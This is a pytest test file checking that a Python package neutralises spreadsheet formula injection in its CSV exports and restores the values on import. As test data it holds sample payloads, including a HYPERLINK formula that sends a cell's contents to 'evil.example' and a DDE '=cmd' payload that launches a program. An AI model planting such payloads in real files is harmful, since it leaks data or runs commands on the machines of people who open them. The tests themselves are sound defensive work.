"""Formula injection in CSV exports (OWASP): text cells that a spreadsheet would run get a
leading quote, numbers stay numbers, and reading the CSV back undoes the prefix."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest

from clipcore.catalog import labels as lbl
from clipcore.catalog.ingest import ingest_folder
from clipcore.catalog.store import Workspace
from clipcore.classify.report import error_rate_table
from clipcore.classify.zeroshot import ZeroShotResult, predictions_csv
from clipcore.csvsafe import neutralise, restore, rows_csv

FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
TRICKY = ["'=already quoted", "''=two quotes", "'plain quote", "a=b", "", "naïve - text", "'", "''"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_quote_prefix(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", TRICKY)
def test_round_trip_is_exact_for_any_string(text):
    out = neutralise(text)
    assert restore(out) == text
    # nothing that reaches the file starts a formula
    assert out[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_numbers_stay_numbers():
    assert neutralise(-3) == -3 and neutralise(-0.5) == -0.5 and neutralise(None) is None
    text = rows_csv(["name", "value"], [["-x", -0.25], ["ok", 3]])
    assert text.splitlines() == ["name,value", "'-x,-0.25", "ok,3"]


def test_label_export_neutralises_and_ingest_import_restores(workspace, demo_dir, tmp_path):
    ids = [int(i) for i in workspace.image_ids()][:3]
    evil_class, evil_name = FORMULAS[0], "@SUM(A1:A9)"
    lbl.record_batch(workspace, evil_class, ids, annotator=evil_name, source={"kind": "test"})
    for history in (False, True):
        text = lbl.labels_csv(workspace, history=history)
        rows = list(csv.DictReader(io.StringIO(text)))
        assert {r["class"] for r in rows} == {"'" + evil_class}
        assert {r["annotator"] for r in rows} == {"'" + evil_name}
        assert all(r["id"].isdigit() for r in rows)  # numbers untouched
        for line in text.splitlines():
            for cell in next(csv.reader([line])):
                assert cell[:1] not in ("=", "+", "-", "@")
    # The labels CSV is also an import format (ingest --labels-csv): the prefix is undone.
    export = tmp_path / "labels.csv"
    rows = list(csv.DictReader(io.StringIO(lbl.labels_csv(workspace))))
    with export.open("w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["path", "label"])
        w.writerows([r["path"], r["class"]] for r in rows)
    # the stored paths are relative to the demo folder, as the import expects
    ws2 = Workspace(tmp_path / "ws2")
    try:
        ingest_folder(ws2, demo_dir, labels_csv=export)
        assert set(ws2.ground_truth().values()) >= {evil_class}
    finally:
        ws2.close()


def test_zero_shot_predictions_csv_neutralises_class_names_in_header_and_cells():
    proba = np.array([[0.9, 0.1], [0.2, 0.8]], dtype=np.float32)
    result = ZeroShotResult(ids=np.array([1, 2]), labels=["=cmd|' /C calc'!A0", "ok"], proba=proba)
    text = predictions_csv(result, {1: "@folder/a.jpg", 2: "b.jpg"})
    header, first, second = list(csv.reader(io.StringIO(text)))
    assert header[3] == "score: =cmd|' /C calc'!A0"  # starts with a letter: inert
    assert first[0] == "'@folder/a.jpg" and first[1] == "'=cmd|' /C calc'!A0"
    assert float(first[2]) == pytest.approx(0.9) and second[1] == "ok"


def test_error_rate_csv_neutralises_method_names():
    table = error_rate_table([{"method": "=1+1", "k": 1, "mean": 0.5, "std": 0.0, "n_draws": 1}])
    rows = list(csv.reader(io.StringIO(table.to_csv())))
    assert rows[1][0] == "'=1+1" and float(rows[1][1]) == pytest.approx(0.5)
